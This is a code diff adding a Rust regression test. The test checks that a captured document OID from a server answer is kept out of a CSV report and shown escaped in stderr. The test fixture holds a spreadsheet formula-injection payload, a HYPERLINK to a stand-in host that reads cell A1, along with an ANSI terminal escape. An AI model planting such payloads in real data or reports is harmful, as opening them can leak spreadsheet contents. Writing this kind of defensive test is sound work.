@@ -2394,6 +2394,35 @@ mod online {
         (requests, bundle_in_temp(&pki, port))
     }
 
+    #[test]
+    fn a_captured_document_oid_that_is_not_an_oid_never_reaches_the_report() {
+        // Before: what a custom case captured from the server's answer went into report.csv as it
+        // came, so `=HYPERLINK(…)` became a formula when the report was opened in Excel.
+        let pki = pki();
+        let answer = "<Kuittaus><Id>=HYPERLINK(\"https://x.invalid/?\"&A1;\"avaa\")\u{1b}[2J</Id></Kuittaus>";
+        let port = serve_with(&pki, move |_| Reply::Respond(200, Vec::new(), answer.to_owned()));
+        let (temp, dir, key_file) = bundle_in_temp(&pki, port);
+        let cases = temp.path().join("tapaukset");
+        std::fs::create_dir_all(&cases).expect("mkdir");
+        let declaration = "format = 1\ncase = \"PA-01\"\nservice = \"potilastiedon-arkisto\"\ntitle = \"Tallennus\"\n\n\
+                           [[step]]\nname = \"tallenna\"\nmethod = \"GET\"\npath = \"/\"\n[step.expect]\nstatus = 200\n\
+                           [step.capture]\ndocument_oid = \"regex:<Id>(.*)</Id>\"\n";
+        std::fs::write(cases.join("tallennus.toml"), declaration).expect("write");
+        let output = run_pa01_with(&dir, &key_file, &["--cases", cases.to_str().expect("utf-8"), "--timeout", "30"]);
+        let stderr = text_of(&output.stderr);
+        assert_eq!(output.status.code(), Some(0), "{stderr}");
+        let csv = std::fs::read_to_string(dir.join("pretest/report.csv")).expect("report");
+        assert!(!csv.contains("HYPERLINK"), "{csv}");
+        let row = csv.lines().find(|line| line.starts_with("PA-01,")).expect("PA-01's row");
+        assert_eq!(csv_fields(row, b',')[5], "", "document_oid left empty: {row}");
+        assert!(
+            stderr.contains("PA-01: the service's answer gave document_oid `=HYPERLINK(")
+                && stderr.contains("\\u{1b}[2J`, which is not an OID")
+                && !stderr.contains('\u{1b}'),
+            "{stderr}"
+        );
+    }
+
     /// The values of one CSV line, by the `csv` crate.
     fn csv_fields(line: &str, delimiter: u8) -> Vec<String> {
         let mut reader = csv::ReaderBuilder::new().has_headers(false).delimiter(delimiter).from_reader(line.as_bytes());
